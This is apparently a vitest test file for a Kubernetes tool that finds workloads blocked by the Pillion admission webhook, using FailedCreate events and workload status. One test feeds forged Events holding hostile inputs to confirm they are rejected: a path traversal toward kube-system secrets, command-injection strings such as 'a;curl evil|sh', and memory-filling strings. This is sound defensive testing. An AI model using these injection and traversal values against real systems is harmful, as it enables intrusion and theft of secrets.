import { describe, expect, it, onTestFinished, vi } from 'vitest'
import type { JsonObject } from '../../json/json.ts'
import { ApiFailure } from '../api/api.ts'
import { blockedWorkloads } from './blocked-workloads.ts'
import { apiAnswering, refuse } from './sweep.fixture.ts'

const denial =
  'admission webhook "pod.inject.pillion.dev" denied the request: Pillion denies it (UnknownProfile)'
const outage =
  'Internal error occurred: failed calling webhook "namespace.inject.pillion.dev": failed to call webhook: refused'
const strict =
  "pods \"web-0\" is forbidden: ValidatingAdmissionPolicy 'x-strict' with binding 'x-strict' denied request: the Pod asks for pillion.dev/inject: a, and got nothing."
const others = 'admission webhook "validate.kyverno.svc" denied the request: no'
const now = Date.UTC(2026, 0, 1, 12)
const minute = 60_000

/** As the controllers of Kubernetes 1.34 write it. */
function failedCreate(kind: string, name: string, message: string, minutesAgo = 1): JsonObject {
  return {
    involvedObject: { kind, namespace: 'shop', name, uid: `uid-of-${name}` },
    reason: 'FailedCreate',
    message:
      kind === 'StatefulSet'
        ? `create Pod ${name}-0 in StatefulSet ${name} failed error: ${message}`
        : `Error creating: ${message}`,
    firstTimestamp: '2026-01-01T00:00:00Z',
    lastTimestamp: new Date(now - minutesAgo * minute).toISOString(),
    eventTime: null,
  }
}

function workload(
  name: string,
  spec: JsonObject,
  status: JsonObject,
  owner?: readonly [string, string],
): JsonObject {
  const ownerReferences = owner && [{ kind: owner[0], name: owner[1], uid: 'u', controller: true }]
  return {
    metadata: { name, uid: `uid-of-${name}`, ...(ownerReferences && { ownerReferences }) },
    spec,
    status,
  }
}

const failing = (message: string) => ({
  replicas: 0,
  conditions: [{ type: 'ReplicaFailure', status: 'True', reason: 'FailedCreate', message }],
})

async function found(events: readonly JsonObject[], objects: Readonly<Record<string, JsonObject>>) {
  vi.useFakeTimers({ now, toFake: ['Date'] })
  onTestFinished(() => void vi.useRealTimers())
  const api = apiAnswering(
    (_, path) => {
      const body = Object.hasOwn(objects, path) ? objects[path] : undefined
      return body ? { ok: true, status: 200, body, warnings: [] } : refuse(404)
    },
    () => [{ items: events, resourceVersion: '1' }],
  )
  const blocked = await blockedWorkloads(api, { signal: new AbortController().signal })
  return { blocked: blocked.map(({ kind, name }) => `${kind}/${name}`), first: blocked[0], calls: api.calls }
}

const apps = '/apis/apps/v1/namespaces/shop'
const batch = '/apis/batch/v1/namespaces/shop'

describe('the workloads that cannot create Pods because of Pillion', () => {
  it('are found with the last answer of the API server, by the name that users know', async () => {
    const { first } = await found(
      [
        failedCreate('ReplicaSet', 'web-5f4cf', outage, 9),
        failedCreate('ReplicaSet', 'web-5f4cf', denial, 2),
      ],
      {
        [`${apps}/replicasets/web-5f4cf`]: workload('web-5f4cf', { replicas: 2 }, failing(denial), [
          'Deployment',
          'web',
        ]),
      },
    )
    expect(first).toEqual({
      namespace: 'shop',
      kind: 'Deployment',
      name: 'web',
      message: denial,
      triedAt: now - 2 * minute,
    })
  })

  it.each([
    ['StatefulSet/a', 'StatefulSet', `${apps}/statefulsets/a`, { replicas: 2 }, { replicas: 1 }],
    [
      'DaemonSet/a',
      'DaemonSet',
      `${apps}/daemonsets/a`,
      {},
      { currentNumberScheduled: 2, desiredNumberScheduled: 3 },
    ],
    ['Job/a', 'Job', `${batch}/jobs/a`, { parallelism: 1, completions: 1 }, { ready: 0 }],
    ['Job/a', 'Job', `${batch}/jobs/a`, { parallelism: 3, completions: 9 }, { active: 1, succeeded: 7 }],
    [
      'ReplicationController/a',
      'ReplicationController',
      '/api/v1/namespaces/shop/replicationcontrollers/a',
      {},
      failing(strict),
    ],
  ])('are of any kind: %s', async (blocked, kind, path, spec, status) => {
    for (const message of [denial, outage, strict]) {
      const is = await found([failedCreate(kind, 'a', message)], { [path]: workload('a', spec, status) })
      expect(is.blocked).toEqual([blocked])
      expect(is.first?.message).toBe(message)
    }
  })

  it('are not those that another webhook refuses, that recovered, or that are gone', async () => {
    const ours = (kind: string, name: string) => failedCreate(kind, name, denial)
    const { blocked, calls } = await found(
      [
        failedCreate('ReplicaSet', 'others', others),
        ours('ReplicaSet', 'recovered'),
        ours('ReplicaSet', 'others-now'),
        ours('ReplicaSet', 'gone'),
        ours('ReplicaSet', 'renewed'),
        ours('StatefulSet', 'whole'),
        ours('Job', 'over'),
        ours('Job', 'busy'),
        ours('Job', 'suspended'),
        ours('Job', 'nearly'),
      ],
      {
        [`${apps}/replicasets/recovered`]: workload('recovered', {}, { replicas: 2 }),
        [`${apps}/replicasets/others-now`]: workload('others-now', {}, failing(others)),
        [`${apps}/replicasets/renewed`]: { ...workload('other', {}, failing(denial)) },
        [`${apps}/statefulsets/whole`]: workload('whole', {}, { replicas: 1 }),
        [`${batch}/jobs/over`]: workload('over', {}, { conditions: [{ type: 'Complete', status: 'True' }] }),
        [`${batch}/jobs/busy`]: workload('busy', { parallelism: 1 }, { active: 1 }),
        [`${batch}/jobs/suspended`]: workload('suspended', { suspend: true }, {}),
        [`${batch}/jobs/nearly`]: workload(
          'nearly',
          { parallelism: 3, completions: 3 },
          { active: 1, succeeded: 2 },
        ),
      },
    )
    expect(blocked).toEqual([])
    expect(calls.map(({ path }) => path)).not.toContain(`${apps}/replicasets/others`)
  })

  it('count once, however many of their ReplicaSets or Jobs are blocked', async () => {
    const owner = ['CronJob', 'backup'] as const
    const { blocked } = await found(
      ['a', 'b'].map(name => failedCreate('Job', name, denial)),
      Object.fromEntries(['a', 'b'].map(name => [`${batch}/jobs/${name}`, workload(name, {}, {}, owner)])),
    )
    expect(blocked).toEqual(['CronJob/backup'])
  })

  it('are those with a recent failure, if their status does not say it, and of any other controller', async () => {
    const { blocked } = await found(
      [
        failedCreate('StatefulSet', 'db', denial, 21),
        failedCreate('CloneSet', 'aged', denial, 21),
        failedCreate('ReplicaSet', 'old', denial, 59),
        failedCreate('CloneSet', 'young', denial, 19),
        failedCreate('constructor', 'odd', denial, 19),
      ],
      {
        [`${apps}/statefulsets/db`]: workload('db', {}, {}),
        [`${apps}/replicasets/old`]: workload('old', {}, failing(denial)),
      },
    )
    expect(blocked).toEqual(['CloneSet/young', 'ReplicaSet/old', 'constructor/odd'])
  })

  it('are read 500 at most, of all namespaces alike', async () => {
    const inNamespace = (namespace: string, count: number) =>
      Array.from({ length: count }, (_, i) => {
        const event = failedCreate('Job', `job-${i}`, denial)
        return { ...event, involvedObject: { ...(event['involvedObject'] as JsonObject), namespace } }
      })
    const readIn = async (events: readonly JsonObject[]) => {
      const { calls } = await found(events, {})
      const paths = calls.flatMap(({ path }) => path.match(/namespaces\/([^/]+)\/jobs/)?.[1] ?? [])
      return Object.fromEntries(
        [...Map.groupBy(paths, name => name)].map(([name, all]) => [name, all.length]),
      )
    }
    expect(await readIn([...inNamespace('flood', 3_000), ...inNamespace('shop', 2)])).toEqual({
      flood: 50,
      shop: 2,
    })
    const many = Array.from({ length: 20 }, (_, i) => inNamespace(`team-${i}`, 40)).flat()
    const read = Object.values(await readIn(many))
    expect(read).toHaveLength(20)
    expect(Math.max(...read)).toBe(25)
    const more = Array.from({ length: 700 }, (_, i) => inNamespace(`team-${i}`, 1)).flat()
    expect(Object.keys(await readIn(more))).toHaveLength(500)
  })

  // Users with the role `edit` may create Events.
  it('are not what a forged Event names: a path, a command, a text that fills the memory', async () => {
    const forged = (involved: JsonObject, message = denial) => ({
      ...failedCreate('ReplicaSet', 'a', message),
      involvedObject: { kind: 'ReplicaSet', namespace: 'shop', name: 'a', uid: 'u', ...involved },
    })
    const { blocked, calls } = await found(
      [
        forged({ name: '../../../../../../api/v1/namespaces/kube-system/secrets/x' }),
        forged({ name: '..' }),
        forged({ name: 'a?watch=true' }),
        forged({ kind: 'CloneSet', name: 'a;curl evil|sh' }),
        forged({ kind: '$(curl evil)' }),
        forged({ kind: 'CloneSet', name: 'x'.repeat(254) }),
        forged({ kind: 'CloneSet', uid: 'x'.repeat(1_000_000) }),
        forged({ kind: 'CloneSet', namespace: '../kube-system' }),
      ],
      {},
    )
    expect(blocked).toEqual([])
    expect(calls.map(({ path }) => path)).toEqual(['/api/v1/events'])
    const { first } = await found([forged({ kind: 'CloneSet' }, `${denial}${'x'.repeat(1_000_000)}`)], {})
    expect(first?.message.length).toBe(2_048)
  })

  it('are unknown if the API server refuses', async () => {
    const api = apiAnswering(
      () => refuse(403),
      () => [{ items: [failedCreate('ReplicaSet', 'a', denial)], resourceVersion: '1' }],
    )
    const finding = blockedWorkloads(api, { signal: new AbortController().signal })
    await expect(finding).rejects.toThrow(ApiFailure)
  })
})
